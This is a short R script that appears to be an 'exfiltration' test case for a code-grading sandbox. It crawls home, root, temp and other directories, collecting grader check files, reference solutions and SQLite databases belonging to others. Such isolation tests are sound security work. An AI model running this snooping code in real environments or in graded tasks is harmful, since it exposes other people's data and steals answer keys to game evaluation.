# Looks for checks, solutions and other people's data where they lie, and in other people's folders.
#
# Class: exfiltration
# Expect: passed

waiting <- c("@REPOSITORY@", "/home", "/root", "/tmp", "/srv", "/var", "/opt", "/mnt", "..")
libraries <- "^(lib|lib32|lib64|usr|proc|sys|gradus|[.].*)$"
seen <- 0
while (length(waiting) && seen < 5000) {
    entries <- utils::head(list.files(waiting[1], full.names = TRUE, all.files = TRUE, no.. = TRUE), 5000)
    waiting <- waiting[-1]
    seen <- seen + length(entries)
    for (file in grep("/(checks|solution)[.]|[.]sqlite3$", entries, value = TRUE)) LOOT[[length(LOOT) + 1L]] <- file
    waiting <- c(waiting, entries[!grepl(libraries, basename(entries)) & dir.exists(entries)])
}
